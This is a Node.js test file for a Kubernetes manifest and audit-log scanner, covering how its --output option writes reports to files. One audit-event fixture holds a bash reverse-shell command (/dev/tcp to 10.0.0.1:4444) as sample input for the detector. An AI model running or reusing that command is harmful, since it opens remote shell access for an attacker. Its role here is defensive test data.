/** `--output FILE`: the report goes to a file, whole or not at all, and text in a file has no colour. */
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { CLEAN_CRONJOB, PRIVILEGED_CRONJOB, run, workspace } from './helpers.ts';

const AUDIT_EVENT = JSON.stringify({
  kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: 'a1', stage: 'ResponseComplete', verb: 'create',
  user: { username: 'mallory' }, objectRef: { resource: 'jobs', namespace: 'ops', name: 'x', apiGroup: 'batch' },
  responseStatus: { code: 201 }, stageTimestamp: '2026-03-02T10:00:00Z',
  requestObject: { apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'x' }, spec: { template: { spec: { containers: [{ name: 'c', image: 'registry.example.com/a:1', command: ['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] }] } } } },
});

test('scan --output writes the report to the file, not to stdout, and keeps the exit status', () => {
  const dir = workspace({ 'jobs/a.yaml': PRIVILEGED_CRONJOB });
  for (const format of ['json', 'sarif', 'text']) {
    const result = run(['scan', 'jobs', '--format', format, '--output', `report.${format}`], { cwd: dir });
    assert.equal(result.status, 1, format);
    assert.equal(result.stdout, '', `${format}: nothing on stdout`);
    const written = readFileSync(join(dir, `report.${format}`), 'utf8');
    if (format === 'text') assert.match(written, /privileged-container/);
    else assert.ok(JSON.parse(written), format);
  }
  assert.deepEqual(readdirSync(dir).filter((name) => name.endsWith('.tmp')), [], 'no temporary file left behind');
});

test('text written to a file has no colour codes, even with FORCE_COLOR; stdout still gets them', () => {
  const dir = workspace({ 'a.yaml': PRIVILEGED_CRONJOB });
  run(['scan', 'a.yaml', '-o', 'out.txt'], { cwd: dir, env: { FORCE_COLOR: '1' } });
  const written = readFileSync(join(dir, 'out.txt'), 'utf8');
  assert.match(written, /privileged-container/);
  assert.doesNotMatch(written, /\x1b/);
  assert.match(run(['scan', 'a.yaml'], { cwd: dir, env: { FORCE_COLOR: '1' } }).stdout, /\x1b\[/, 'colour on stdout as asked');
});

test('a report that cannot be written is exit 2 with the reason, and an existing file is left as it was', () => {
  const dir = workspace({ 'a.yaml': CLEAN_CRONJOB, 'old.json': 'previous report\n' });
  const missing = run(['scan', 'a.yaml', '--output', 'no/such/folder/r.json'], { cwd: dir });
  assert.equal(missing.status, 2);
  assert.match(missing.stderr, /cannot write the report to no\/such\/folder\/r\.json: no such file or directory/);
  assert.equal(missing.stdout, '');
  // A run that stops before the report is made (bad config) never touches the previous report.
  writeFileSync(join(dir, 'bad.yaml'), 'severity: [\n');
  const stopped = run(['scan', 'a.yaml', '--config', 'bad.yaml', '--output', 'old.json'], { cwd: dir });
  assert.equal(stopped.status, 2);
  assert.equal(readFileSync(join(dir, 'old.json'), 'utf8'), 'previous report\n');
});

test('an existing report is replaced whole', () => {
  const dir = workspace({ 'a.yaml': CLEAN_CRONJOB, 'r.json': 'x'.repeat(100_000) });
  assert.equal(run(['scan', 'a.yaml', '--format', 'json', '--output', 'r.json'], { cwd: dir }).status, 0);
  assert.equal(JSON.parse(readFileSync(join(dir, 'r.json'), 'utf8')).summary.findings, 0);
});

test('audit --output streams the report into the file', () => {
  const dir = workspace({ 'audit.log': AUDIT_EVENT + '\n' });
  const result = run(['audit', 'audit.log', '--format', 'json', '--output', 'matches.json'], { cwd: dir });
  assert.equal(result.status, 1);
  assert.equal(result.stdout, '');
  assert.equal(JSON.parse(readFileSync(join(dir, 'matches.json'), 'utf8')).matches.length, 1);
  const text = run(['audit', 'audit.log', '--output', 'report.txt'], { cwd: dir, env: { FORCE_COLOR: '1' } });
  assert.equal(text.status, 1);
  assert.doesNotMatch(readFileSync(join(dir, 'report.txt'), 'utf8'), /\x1b/);
  assert.ok(!existsSync(join(dir, '.report.txt.tmp')));
});
